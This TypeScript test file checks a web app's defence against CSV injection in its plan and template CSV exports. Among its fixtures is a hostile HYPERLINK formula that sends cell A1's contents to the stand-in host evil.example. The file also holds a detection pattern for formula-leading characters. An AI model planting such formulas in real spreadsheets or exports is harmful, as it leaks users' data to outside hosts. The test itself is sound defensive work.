import { eq } from "drizzle-orm";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { useDatabase } from "#db/client.server";
import { templateTasks, tasks } from "#db/schema";
import { Client, startTestApp, type TestApp } from "../helpers/app-server";
import {
  createTestDatabase,
  seedTwoTenants,
  signInAs,
  type TestDatabase,
  type TwoTenants,
} from "../helpers/fixtures";
import { parseRfc4180 } from "../helpers/rfc4180";

// CSV injection: titles that a spreadsheet would run as formulas, brought in through the app's own CSV
// imports (over HTTP, as a user would) and exported through the real download routes.

let tdb: TestDatabase;
let app: TestApp;
let w: TwoTenants;

/** Formula-like titles that run across a line break, the case a single-line pattern misses. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")\n2行目',
  "+1+1\r\nplus",
  '-2+3, "minus"\nmore',
  "@SUM(1,2)\nat",
];
/** Leading tab and CR do not survive an import (cells are trimmed), so these are written to the db. */
const HOSTILE_DB = ["\t=1+1\ntab", "\r=1+1\ncr"];
const PHASE = "=1+2\nフェーズ";
const FORMULA_START = /^[=+\-@\t\r]/;

async function as(userId: string): Promise<Client> {
  const client = new Client(app.url);
  signInAs(tdb.db, client, userId);
  return client;
}

function upload(client: Client, path: string, csv: string) {
  const form = new FormData();
  form.set("file", new Blob([csv], { type: "text/csv" }), "hostile.csv");
  return client.request(path, { method: "POST", body: form, headers: { "Accept-Language": "en" } });
}

/** An attacker's file: written without any guard. */
const rawCsv = (rows: string[][]) => Papa.unparse(rows, { newline: "\r\n", escapeFormulae: false });

/**
 * The downloaded bytes: UTF-8 BOM, then strict RFC 4180 (CRLF records, quoting), read identically by
 * papaparse, with no cell that starts like a formula.
 */
async function readExport(res: Response): Promise<string[][]> {
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder().decode(bytes.slice(3));
  const table = parseRfc4180(text);
  const lenient = Papa.parse<string[]>(text, { skipEmptyLines: true });
  expect(lenient.errors).toEqual([]);
  expect(lenient.data).toEqual(table);
  for (const row of table) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
  return table;
}

const column = (table: string[][], name: string) => {
  const index = table[0]!.indexOf(name);
  expect(index).toBeGreaterThanOrEqual(0);
  return table.slice(1).map((row) => row[index]!);
};

beforeAll(async () => {
  tdb = createTestDatabase();
  useDatabase(tdb.db);
  w = seedTwoTenants(tdb.db);
  app = await startTestApp({ databasePath: tdb.path });
});

afterAll(async () => {
  await app?.close();
  tdb?.dispose();
});

describe("plan CSV export", () => {
  it("neutralises formula-like titles, phases and dependencies even across line breaks", async () => {
    const csm = await as(w.csmA.id);
    const imported = await upload(
      csm,
      `/rooms/${w.roomA2.id}/plan/import`,
      rawCsv([
        ["phase", "title", "depends_on"],
        ...HOSTILE.map((title) => [PHASE, title, ""]),
        [PHASE, "ordinary task", HOSTILE[0]!],
        [PHASE, "later tab", ""],
        [PHASE, "later cr", ""],
      ]),
    );
    expect(imported.status).toBe(200);
    // Stored as typed: the guard belongs to the export, not to the data.
    const stored = tdb.db.select().from(tasks).where(eq(tasks.roomId, w.roomA2.id)).all();
    expect(stored.map((t) => t.title)).toEqual(expect.arrayContaining(HOSTILE));
    tdb.db.update(tasks).set({ title: HOSTILE_DB[0]! }).where(eq(tasks.title, "later tab")).run();
    tdb.db.update(tasks).set({ title: HOSTILE_DB[1]! }).where(eq(tasks.title, "later cr")).run();

    const table = await readExport(await csm.get(`/rooms/${w.roomA2.id}/plan.csv`));
    const titles = column(table, "title");
    for (const title of [...HOSTILE, ...HOSTILE_DB]) expect(titles).toContain(`'${title}`);
    expect(new Set(column(table, "phase"))).toEqual(new Set([`'${PHASE}`]));
    expect(column(table, "depends_on")[titles.indexOf("ordinary task")]).toBe(`'${HOSTILE[0]}`);

    // The guard is undone on import: the exported file brings back exactly the same titles elsewhere.
    const csvBytes = new Uint8Array(await (await csm.get(`/rooms/${w.roomA2.id}/plan.csv`)).arrayBuffer());
    const form = new FormData();
    form.set("file", new Blob([csvBytes], { type: "text/csv" }), "plan.csv");
    const again = await (
      await as(w.csmB.id)
    ).request(`/rooms/${w.roomB.id}/plan/import`, { method: "POST", body: form });
    expect(again.status).toBe(200);
    const copied = tdb.db.select().from(tasks).where(eq(tasks.roomId, w.roomB.id)).all();
    expect(copied.map((t) => t.title).sort()).toEqual(
      tdb.db
        .select()
        .from(tasks)
        .where(eq(tasks.roomId, w.roomA2.id))
        .all()
        .map((t) => t.title)
        .sort(),
    );
  });
});

describe("template CSV export", () => {
  it("neutralises formula-like titles and phases even across line breaks", async () => {
    const admin = await as(w.admin.id);
    const imported = await upload(
      admin,
      `/templates/${w.templateId}/import`,
      rawCsv([
        ["phase", "title", "start_day", "due_day", "depends_on"],
        ...HOSTILE.map((title) => [PHASE, title, "0", "1", ""]),
        [PHASE, "ordinary template task", "0", "1", HOSTILE[0]!],
      ]),
    );
    expect(imported.status).toBe(200);
    const [first, second] = HOSTILE_DB;
    tdb.db.update(templateTasks).set({ title: first! }).where(eq(templateTasks.title, HOSTILE[2]!)).run();
    tdb.db.update(templateTasks).set({ title: second! }).where(eq(templateTasks.title, HOSTILE[3]!)).run();

    const table = await readExport(await admin.get(`/templates/${w.templateId}/export.csv`));
    const titles = column(table, "title");
    for (const title of [HOSTILE[0], HOSTILE[1], ...HOSTILE_DB]) expect(titles).toContain(`'${title}`);
    expect(column(table, "phase")).toContain(`'${PHASE}`);
    expect(column(table, "depends_on")[titles.indexOf("ordinary template task")]).toBe(`'${HOSTILE[0]}`);
  });
});

describe("strict RFC 4180 reader", () => {
  it("refuses what the exports must never contain", () => {
    expect(parseRfc4180('a,"b\r\nc"\r\n1,2\r\n')).toEqual([
      ["a", "b\r\nc"],
      ["1", "2"],
    ]);
    expect(() => parseRfc4180("a,b\n1,2\n")).toThrow(/bare CR or LF/);
    expect(() => parseRfc4180('a,b"c\r\n')).toThrow(/quote inside/);
    expect(() => parseRfc4180('"a"b\r\n')).toThrow(/after a closing quote/);
    expect(() => parseRfc4180("a,b\r\n1\r\n")).toThrow(/field count/);
    expect(() => parseRfc4180("a,b")).toThrow(/without CRLF/);
  });
});
